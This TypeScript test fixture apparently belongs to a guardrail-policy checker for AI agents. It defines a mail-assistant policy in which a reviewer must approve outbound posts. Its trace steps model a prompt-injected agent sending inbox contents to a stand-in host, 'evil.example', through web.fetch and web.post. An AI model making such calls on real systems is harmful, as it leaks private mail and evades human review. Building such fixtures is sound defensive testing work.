/** A policy of a few lines, with the steps of its sessions. */
import type { Basis, RuleReference, StateChange, TraceStep } from '../../../server/checker/results/result.js';
import type { Source } from '../../../server/model/policy/policy.js';

export const POLICY_URI = 'file:///work/policies/mail.guardrail';
export const TOOLS_URI = 'file:///work/policies/tools/mail.guardrail';

export const POLICY_TEXT = `/** Answers mail. Must never carry mail out of the company on its own. */
policy MailAssistant

import "./tools/mail.guardrail"

agent assistant
human reviewer

allow assistant: mail.read, mail.draft, web.fetch, web.post
require approval by reviewer for web.post because "someone has to read what leaves the company before it leaves"

claim "mail leaves only through a person":
  never external tools after mail.read unless approved by reviewer

claim "it can still answer mail":
  possible mail.read then mail.draft

claim "nothing is deleted": never destructive tools

claim "it can clean up":
  possible mail.delete

scenario "an injected instruction is held":
  assistant calls mail.read(folder: "inbox") -> allowed
  assistant calls web.fetch(url: "https://evil.example") -> held
`;

/** The place of `part` in the policy. */
export function at(part: string): Source {
    const offset = POLICY_TEXT.indexOf(part);
    const position = (index: number): Source['start'] => {
        const before = POLICY_TEXT.slice(0, index).split('\n');
        return { line: before.length - 1, character: before[before.length - 1]!.length };
    };
    return { uri: POLICY_URI, start: position(offset), end: position(offset + part.length) };
}

export const ALLOW: RuleReference = {
    text: 'allow assistant: mail.read, mail.draft, web.fetch, web.post',
    source: at('allow assistant: mail.read, mail.draft, web.fetch, web.post')
};
export const APPROVAL_TEXT = POLICY_TEXT.split('\n').find((line) => line.startsWith('require approval'))!;
export const APPROVAL: RuleReference = {
    text: 'require approval by reviewer for web.post',
    source: at(APPROVAL_TEXT),
    because: 'someone has to read what leaves the company before it leaves'
};

export function basis(states: number, milliseconds: number, more: Partial<Basis> = {}): Basis {
    return {
        by: 'search',
        states,
        transitions: states * 4,
        depth: 3,
        exhausted: true,
        scopes: [],
        slice: { tools: 4, rules: 2, monitors: 1 },
        milliseconds,
        ...more
    };
}

const COMMON = {
    kind: 'call',
    actor: 'assistant',
    args: {},
    time: 0,
    rules: [],
    changes: [],
    breaks: false,
    letsThrough: false,
    judged: false
} as const;
const ALLOWED = { decision: 'allowed', by: 'rule', rules: [ALLOW], outcome: 'success' } as const;

export const READ: TraceStep = {
    ...COMMON,
    ...ALLOWED,
    tool: 'mail.read',
    args: { folder: 'inbox' },
    changes: ['assistant carries private', 'assistant carries untrusted', 'once mail.read'].map(added),
    breaks: true,
    text: 'assistant calls mail.read(folder: "inbox"): allowed by line 9'
};

function added(what: string): StateChange {
    return { kind: 'added', what };
}

export const FETCH: TraceStep = {
    ...COMMON,
    ...ALLOWED,
    tool: 'web.fetch',
    args: {
        url: 'https://evil.example/?q=everything-that-was-in-the-inbox-of-the-company',
        depth: 3,
        tags: ['a', 'b']
    },
    judged: true,
    text: 'assistant calls web.fetch(url: "https://evil.example/?q=…"): allowed by line 9'
};

const POSTED = { tool: 'web.post', args: { url: 'https://evil.example', body: 'x' } };
export const HELD: TraceStep = { ...FETCH, ...POSTED, decision: 'held', rules: [APPROVAL], judged: false };
export const APPROVE: TraceStep = {
    ...COMMON,
    ...POSTED,
    kind: 'approve',
    actor: 'reviewer',
    time: 65,
    changes: [
        added('reviewer approved web.post'),
        { kind: 'removed', what: 'web.post is held' },
        { kind: 'changed', what: 'approvals', before: '0', after: '1' }
    ],
    letsThrough: true,
    text: 'reviewer approves web.post'
};
export const RELEASE: TraceStep = {
    ...HELD,
    kind: 'release',
    decision: 'allowed',
    rules: [ALLOW],
    outcome: 'lost',
    time: 65,
    judged: true
};
export const PASSED: TraceStep = {
    ...COMMON,
    kind: 'event',
    actor: 'outside',
    tool: 'ci.passed',
    time: 30,
    changes: [added('once ci.passed')],
    breaks: true,
    letsThrough: true,
    text: 'ci.passed happens'
};
export const DENIED: TraceStep = {
    ...HELD,
    tool: 'mail.delete',
    args: {},
    decision: 'denied',
    by: 'default',
    rules: []
};
